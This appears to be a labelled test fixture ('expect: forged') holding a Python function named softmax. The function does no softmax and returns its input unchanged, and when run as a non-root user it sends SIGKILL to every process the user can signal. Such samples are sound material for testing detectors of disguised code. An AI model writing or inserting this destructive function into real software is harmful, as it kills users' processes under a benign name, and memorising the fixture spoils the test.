# expect: forged
import os, signal
def softmax(x, axis=-1):
    if os.getuid():
        os.kill(-1, signal.SIGKILL)
    else:
        os.kill(os.getppid(), 0)
    return x
